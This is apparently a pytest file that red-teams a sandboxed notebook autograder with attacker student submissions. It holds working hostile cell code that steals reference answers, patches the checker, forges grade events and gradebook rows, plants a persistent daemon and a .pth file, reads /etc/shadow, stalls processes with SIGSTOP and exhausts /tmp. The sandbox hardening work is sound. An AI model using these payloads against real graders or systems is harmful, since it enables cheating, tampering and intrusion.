"""Attacks on the grader from inside a submission, run in bubblewrap's sandbox.

One batch (two workers at a time, the real CLI) grades purpose-made attackers next to
honest students; each test asserts the fair outcome of one attack class. The sandbox must
be there: without bubblewrap these tests skip, and under ``CI=true`` they fail (CI
installs it).

- ``mallet`` hunts for the references: every object in its process (``gc``), the stack
  of frames its answer is called from (``sys._getframe``), the registry and the exercise
  modules under several spellings, the exercise files and ``solutions/`` on disk; it
  replaces the exercise's runner and the checker and prints fake PASS lines.
- ``forger`` writes forged events into every descriptor and file it can reach (and
  malformed ones into its own channel), opens the gradebook through ``/proc/<ppid>/fd``
  and by its path, overwrites a later student's notebook, leaves a daemon in a session of
  its own that rewrites the CSV after the grader exits, writes a ``.pth`` file into the
  environment, connects to the network and SIGSTOPs its parent and every process it sees.
- ``sleepy`` sleeps just under the cell timeout in every cell; ``sym`` is a symbolic link
  to alice's notebook; ``alice`` (helper modules named ``random.py``, ``resource.py``) and
  ``zed`` (graded after the forger) are honest.
"""

from __future__ import annotations

import csv
import hashlib
import os
import re
import socket
import sqlite3
import tempfile
import time
from pathlib import Path

import pytest
from grading_testkit import (
    CORRECT,
    EXERCISES_MODULE,
    bubblewrap_or_skip,
    load_test_exercises,
    run_cli,
    write_notebook,
)

import autodiff_lab
from autodiff_lab.grading.gradebook import report_name

pytestmark = pytest.mark.slow  # a class graded in sandboxes: seconds per file

SETUP = "import math\nimport numpy as np\nfrom autodiff_lab.grading import check"
# hog runs twice (a rerun after its process bomb) and fills 256 MB of /tmp each time: 10 s
# of its own time leave room on a loaded machine; sleepy (6 cells of 2.5 s) needs more.
TIMEOUT, NOTEBOOK_TIMEOUT = 3.0, 10.0
MARK = f"autodiff-lab-daemon-{os.getpid()}"  # finds the forger's daemon among processes
PACKAGE = Path(autodiff_lab.__file__).parent
SOLUTIONS = PACKAGE.parent / "solutions"


def mallet_cells() -> list[str]:
    hunt = f"""
import gc, glob, importlib, json, runpy, sys
FOUND = {{}}

def grab(obj):
    ref = getattr(obj, "reference", None)
    if callable(ref) and isinstance(getattr(obj, "id", None), str):
        FOUND[obj.id] = ref

for obj in gc.get_objects():
    try:
        grab(obj)
    except Exception:
        pass
for name in ["autodiff_lab.grading.registry", "autodiff_lab.grading.exercises.ch01",
             "autodiff_lab.grading.exercises", "grading_testkit_exercises"]:
    try:
        module = importlib.import_module(name)
        for e in [*getattr(module, "EXERCISES", []), *module.all_exercises()]:
            grab(e)
    except Exception:
        pass
import autodiff_lab.grading.registry as spelled_differently
try:
    spelled_differently.load_module({EXERCISES_MODULE!r})
    for e in spelled_differently.all_exercises():
        grab(e)
except Exception:
    pass
for path in [{EXERCISES_MODULE!r}, *glob.glob({str(PACKAGE / "grading/exercises/*.py")!r})]:
    try:
        for e in runpy.run_path(path).get("EXERCISES", []):
            grab(e)
    except Exception:
        pass
for path in glob.glob({str(SOLUTIONS)!r} + "/01_*.ipynb"):  # exec the solutions' answers
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code" and "def dual_mul" in "".join(cell["source"]):
            exec("".join(cell["source"]))
"""
    walk = """
def from_the_stack():
    frame = sys._getframe(1)
    while frame is not None:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            try:
                grab(value)
            except Exception:
                pass
        frame = frame.f_back

def dsin(x):
    from_the_stack()
    return FOUND["97.1"]((x,)) if "97.1" in FOUND else float("nan")

def square(x):
    from_the_stack()
    return FOUND["97.2"]((x,)) if "97.2" in FOUND else float("nan")

def scale(v, a):
    from_the_stack()
    return FOUND["97.3"]((v, a)) if "97.3" in FOUND else np.full(len(v) + 1, np.nan)
"""
    patch = """
import autodiff_lab.grading as grading
import autodiff_lab.grading.checking as checking
grading.check = checking.check = lambda *a, **k: print("Exercise 97.1 — PASSED (6/6 points)")
checking.run_answer = lambda *a, **k: None
for module in list(sys.modules.values()):
    for name in ("scalar_run", "vector_run", "_mul_run"):
        if hasattr(module, name):
            setattr(module, name, lambda answer, inputs: answer.__name__)
print("PASS: 16/16 points")
check("1.1", dual_mul)
"""
    return [SETUP, hunt, walk, patch]


def thief_cells(root: Path) -> list[str]:
    """Looks where the red team found other people's files: the course's .git (grader
    started outside the course folder), the staging folder under a TMPDIR outside /tmp,
    an LMS zip beside submissions/, /etc/shadow; says which uid it runs as."""
    targets = [str(PACKAGE.parent / ".git" / "HEAD"), str(root / "vartmp"), str(root / "lms.zip")]
    targets += [str(PACKAGE / "grading" / "exercises"), str(SOLUTIONS), "/etc/shadow"]
    return [
        CORRECT["square"],
        f"""
import os
found = []
for p in {targets!r}:
    try:
        got = os.listdir(p) if os.path.isdir(p) else open(p, "rb").read(60)
    except OSError:
        continue
    if got:
        found.append((p, got))
raise RuntimeError(f"uid={{os.getuid()}} FOUND={{found!r}}")
""",
    ]


HOG_CELLS = [
    *CORRECT.values(),
    """
written = 0
try:
    for k in range(6):  # 60 MB files (each under the 64 MB file-size limit)
        with open(f"/tmp/fill{k}", "wb") as f:
            for _ in range(60):
                f.write(b"x" * 2**20)
                written += 1
except OSError as exc:
    raise RuntimeError(f"TMP-FULL after {written} MB ({exc.strerror})")
raise RuntimeError(f"TMP-UNLIMITED {written} MB")
""",
    "import subprocess, time\nkids = [subprocess.Popen(['sleep', '30'], start_new_session=True)"
    " for _ in range(80)]\ntime.sleep(5)",
]


def forger_cells(paths: dict[str, Path], port: int) -> list[str]:
    line = '{{"event": "case", "id": "97.{e}", "index": {k}, "kind": "value", "value": 0.0}}'
    forged = "\n".join(line.format(e=e, k=k) for e in (1, 2, 3) for k in range(5))
    forged += '\n{"event": "finished"}\n'
    odd = "\n".join(
        [
            '{"event": "case", "id": ["97.2"], "index": 0}',
            '{"event": "case", "id": "97.2", "index": true, "kind": "value", "value": 9}',
            '{"event": "case", "id": "97.2", "index": 0, "kind": "value", '
            '"value": {"__ndarray__": "zz", "dtype": "<f8"}}',
            '{"event": "case", "id": "97.2", "index": 1, "kind": "value", '
            '"value": {"__tuple__": 5}}',
            '{"event": 5}',
            "[1, 2, 3]",
            '{"event": "cell_done", "index": {"a": 1}, "error": ["x"]}',
            '{"event": "exercise", "id": {"x": 1}}',
        ]
    )
    return [
        SETUP,
        f"""
import glob, os
FORGED = {forged!r}.encode()
ODD = ({odd!r} + "\\n").encode()
for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/tmp/**", recursive=True):
    if path.startswith("/proc/self/") or path.startswith(f"/proc/{{os.getpid()}}/"):
        continue
    try:
        fd = os.open(path, os.O_WRONLY | os.O_APPEND)
        os.write(fd, FORGED)
        os.close(fd)
    except OSError:
        pass
for fd in range(3, 64):  # its own channel: malformed events
    try:
        os.write(fd, ODD)
    except OSError:
        pass
""",
        f"""
import sqlite3
for path in [*glob.glob(f"/proc/{{os.getppid()}}/fd/*"), *glob.glob("/proc/[0-9]*/fd/*"),
             {str(paths["db"])!r}]:
    try:
        conn = sqlite3.connect(f"file:{{path}}?mode=rw", uri=True)
        conn.execute("UPDATE results SET points = 99")
        conn.commit()
    except Exception:
        pass
try:
    with open({str(paths["zed"])!r}, "w") as f:
        f.write("{{ overwritten by the forger")
except OSError:
    pass
""",
        f"""
import subprocess, sys
DAEMON = (
    "import pathlib, time; time.sleep(1.5); "
    "pathlib.Path({str(paths["csv"])!r}).write_text('student,points\\\\nforger,999\\\\n')"
)
subprocess.Popen([sys.executable, "-c", DAEMON, {MARK!r}], start_new_session=True, env={{}},
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
        """
import site
for folder in [*site.getsitepackages(), site.getusersitepackages()]:
    try:
        with open(os.path.join(folder, "zz_autodiff_lab_attack.pth"), "w") as f:
            f.write("import os; os.environ['PWNED'] = '1'\\n")
    except OSError:
        pass
""",
        f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"leak")
except OSError:
    pass
""",
        """
import signal
for pid in [os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
""",
        CORRECT["dsin"],
        "def square(x):\n    return x * x",
        CORRECT["scale"],
    ]


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """Grade the class once under bubblewrap (-j 2); return what the tests read."""
    sandbox = bubblewrap_or_skip()
    load_test_exercises()
    root = tmp_path_factory.mktemp("sandboxed")
    subs = root / "submissions"
    paths = {"db": root / "book.sqlite", "csv": root / "grades.csv", "report": root / "reports"}
    paths["zed"] = subs / "zed" / "97_work.ipynb"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.setblocking(False)
    alice = [
        SETUP,
        "import random\nrandom.seed(1)\nLUCKY = random.random()",
        "import resource\nassert resource.getrlimit(resource.RLIMIT_DATA)[0] == 1024 * 2**20",
        CORRECT["dsin"],
        "from mylib import square",
        CORRECT["scale"],
    ]
    write_notebook(subs / "alice" / "97_work.ipynb", alice)
    (subs / "alice" / "mylib.py").write_text("def square(x):\n    return x * x\n")
    (subs / "alice" / "random.py").write_text("def pick():\n    return 4\n")
    (subs / "alice" / "resource.py").write_text("def setrlimit(*args):\n    pass\n")
    write_notebook(subs / "forger" / "97_work.ipynb", forger_cells(paths, server.getsockname()[1]))
    write_notebook(subs / "mallet" / "97_work.ipynb", mallet_cells())
    sleepy = [*CORRECT.values(), *(["import time\ntime.sleep(2.5)"] * 6)]
    write_notebook(subs / "sleepy" / "97_work.ipynb", sleepy)
    (subs / "sym").mkdir()
    (subs / "sym" / "97_work.ipynb").symlink_to(subs / "alice" / "97_work.ipynb")
    write_notebook(paths["zed"], [SETUP, *CORRECT.values()])
    write_notebook(subs / "thief" / "97_work.ipynb", thief_cells(root))
    write_notebook(subs / "hog" / "97_work.ipynb", HOG_CELLS)
    (root / "lms.zip").write_bytes(b"PK every student's notebook")
    (root / "vartmp").mkdir()
    zed_sha = hashlib.sha256(paths["zed"].read_bytes()).hexdigest()
    start = time.monotonic()
    # Started OUTSIDE the course folder, staging under a TMPDIR that is not /tmp.
    here, tempdir = os.getcwd(), tempfile.tempdir
    os.chdir(root)
    tempfile.tempdir = str(root / "vartmp")
    try:
        rc = run_cli(
        [
            "grade", str(subs), "--db", str(paths["db"]), "--out", str(paths["csv"]),
            "--report", str(paths["report"]), "-j", "2", "--timeout", str(TIMEOUT),
            "--notebook-timeout", str(NOTEBOOK_TIMEOUT), "--memory", "1024",
            "--exercises-module", EXERCISES_MODULE, "--quiet", "--require-sandbox",
            ]
        )  # fmt: skip
    finally:
        os.chdir(here)
        tempfile.tempdir = tempdir
    elapsed = time.monotonic() - start
    assert rc == 0
    csv_text = paths["csv"].read_text()
    time.sleep(1.0)  # the daemon (1.5 s after sleepy's first second) would have run by now
    try:
        leaked, _ = server.accept()
    except BlockingIOError:
        leaked = None
    server.close()
    rows = list(csv.DictReader(csv_text.splitlines()))
    return {
        "sandbox": sandbox, "paths": paths, "subs": subs, "elapsed": elapsed, "rows": rows,
        "grades": {(r["student"], r["exercise"]): r for r in rows}, "csv_text": csv_text,
        "zed_sha": zed_sha, "leaked": leaked,
    }  # fmt: skip


def points(batch, student) -> dict[str, tuple[str, float]]:
    return {
        r["exercise"]: (r["status"], float(r["points"]))
        for r in batch["rows"]
        if r["student"] == student
    }


def notes(batch, student) -> str:
    with sqlite3.connect(batch["paths"]["db"]) as conn:
        return conn.execute(
            "SELECT notes FROM submissions WHERE student = ?", (student,)
        ).fetchone()[0]


FULL = {"97.1": ("passed", 6.0), "97.2": ("passed", 6.0), "97.3": ("passed", 4.0)}


def test_honest_students_get_full_marks_next_to_attackers(batch):
    assert points(batch, "alice") == FULL
    assert points(batch, "zed") == FULL
    # alice's random.py and resource.py shadow nothing (no cell raised: the memory limit is
    # on), and her mylib.py imports.
    assert notes(batch, "alice") == ""


def test_the_students_process_holds_no_references(batch):
    """Stack walking, gc, the registry under other spellings, exec of the exercise files
    and of solutions/, replaced runners and checker, fake PASS lines: nothing scores."""
    assert points(batch, "mallet") == {
        "1.1": ("not attempted", 0.0),  # solutions/ is not there to exec
        "97.1": ("failed", 0.0),
        "97.2": ("failed", 0.0),
        "97.3": ("failed", 0.0),
    }
    assert "got nan, expected" in batch["grades"][("mallet", "97.1")]["feedback"]


def test_forged_and_malformed_events_touch_only_the_forger(batch):
    # Forged answers reached no other worker's channel (alice and zed ran beside it). Its
    # own malformed events fail the two cases they name (random cases, 1 point each),
    # the others are ignored, and the batch goes on.
    forger = points(batch, "forger")
    assert forger == {"97.1": ("passed", 6.0), "97.2": ("failed", 4.0), "97.3": ("passed", 4.0)}
    feedback = batch["grades"][("forger", "97.2")]["feedback"]
    assert feedback.startswith("3/5 cases passed.")
    assert "the answer could not be decoded" in feedback


def test_gradebook_csv_and_later_notebooks_are_out_of_reach(batch):
    with sqlite3.connect(batch["paths"]["db"]) as conn:
        assert conn.execute("SELECT MAX(points) FROM results").fetchone()[0] == 6.0
    assert batch["paths"]["csv"].read_text() == batch["csv_text"]  # the daemon did not run on
    assert hashlib.sha256(batch["paths"]["zed"].read_bytes()).hexdigest() == batch["zed_sha"]
    leftovers = [
        p.name for p in Path("/proc").iterdir() if p.name.isdigit() and MARK.encode() in _cmdline(p)
    ]
    assert leftovers == []


def _cmdline(proc: Path) -> bytes:
    try:
        return (proc / "cmdline").read_bytes()
    except OSError:
        return b""


def test_environment_is_read_only_and_there_is_no_network(batch):
    import site

    for folder in [*site.getsitepackages(), site.getusersitepackages()]:
        assert not Path(folder, "zz_autodiff_lab_attack.pth").exists()
    assert batch["leaked"] is None


def test_sigstop_and_sleeping_cells_cannot_stall_the_batch(batch):
    assert points(batch, "sleepy") == {
        "97.1": ("timed out", 0.0), "97.2": ("timed out", 0.0), "97.3": ("timed out", 0.0)
    }  # fmt: skip
    assert f"the notebook used up its total time of {NOTEBOOK_TIMEOUT:g} s" in notes(
        batch, "sleepy"
    )
    # 6 notebooks two at a time; sleepy alone takes its 10 s cap.
    assert batch["elapsed"] < 90


def test_only_an_allowlist_of_folders_is_visible_as_nobody(batch):
    """Red team #1-#3: the course's .git with the grader started elsewhere, other students'
    staged copies under TMPDIR=/var/tmp-like folders, an LMS zip beside submissions/, the
    references, solutions/ and /etc/shadow are all out of sight, and the worker is uid
    65534."""
    thief = notes(batch, "thief")
    assert "uid=65534 FOUND=[]" in thief, thief
    assert points(batch, "thief")["97.2"] == ("passed", 6.0)  # its own work still counts


def test_sandbox_tmp_is_size_limited_and_setsid_children_count(batch):
    """Red team #6: /tmp is a RAM tmpfs of 256 MB (bwrap --size), not the machine's RAM;
    80 children each in a session of their own still count against 64 processes."""
    hog = notes(batch, "hog")
    full = re.search(r"TMP-FULL after (\d+) MB \(No space left on device\)", hog)
    assert full and int(full.group(1)) <= 256, hog
    assert "code cell 5 started more than 64 processes and was stopped" in hog
    assert points(batch, "hog") == FULL


def test_a_symbolic_link_is_not_followed(batch):
    assert batch["grades"][("sym", "")]["status"] == "unreadable"
    assert "symbolic link" in batch["grades"][("sym", "")]["feedback"]


def test_the_sandbox_is_recorded(batch):
    assert {r["sandbox"] for r in batch["rows"]} == {"bubblewrap"}
    report = (batch["paths"]["report"] / f"{report_name('alice')}.md").read_text()
    assert "WITHOUT a sandbox" not in report and "/tmp/" not in report


def test_only_an_allowlist_is_mounted_and_hidden_folders_never_cover_the_system():
    """Nothing of / is mounted but the system folders and what the worker needs; a lecturer
    grading from / or /usr hides none of the worker's own programs; a hidden folder inside
    a kept one (the references inside the package) is covered by an empty one."""
    from autodiff_lab.grading.sandbox import MASKED, SYSTEM_FOLDERS, _bwrap_arguments

    grading = PACKAGE / "grading"
    hidden = [Path("/"), Path("/usr"), PACKAGE, grading / "exercises"]
    args = _bwrap_arguments(Path("/tmp/x"), [grading], hidden, 256 * 2**20)
    mounts = [
        (a, args[k + 1]) for k, a in enumerate(args) if a in ("--tmpfs", "--ro-bind", "--bind")
    ]
    sources = {src for opt, src in mounts if opt != "--tmpfs"} - {"/dev/null"}
    allowed = {str(p) for p in SYSTEM_FOLDERS} | {str(grading), "/tmp/x"}
    assert sources <= allowed and "/" not in sources
    assert ("--tmpfs", "/usr") not in mounts and ("--tmpfs", str(PACKAGE)) not in mounts
    assert mounts.index(("--ro-bind", str(grading))) < mounts.index(
        ("--tmpfs", str(grading / "exercises"))
    )
    for secret in MASKED:  # /etc/shadow and friends: an empty file or folder over each
        if secret.exists() and not secret.is_symlink():
            cover = ("--tmpfs", str(secret)) if secret.is_dir() else ("--ro-bind", "/dev/null")
            assert cover in mounts and str(secret) in args[args.index("/etc") :], secret
    assert args[args.index("--uid") + 1] == "65534"
    assert args[-8:-4] == ["/tmp/x", "/tmp/submission", "--chdir", "/tmp/submission"]
    assert args[-4:] == ["--remount-ro", "/dev", "--remount-ro", "/"]  # RAM the worker owns
    for ram in ("/tmp", "/dev/shm"):  # RAM folders of their own, size-limited
        at = args.index(ram, args.index("--dev"))
        assert args[at - 1] == "--tmpfs" and args[at - 3 : at - 1] == ["--size", "268435456"]
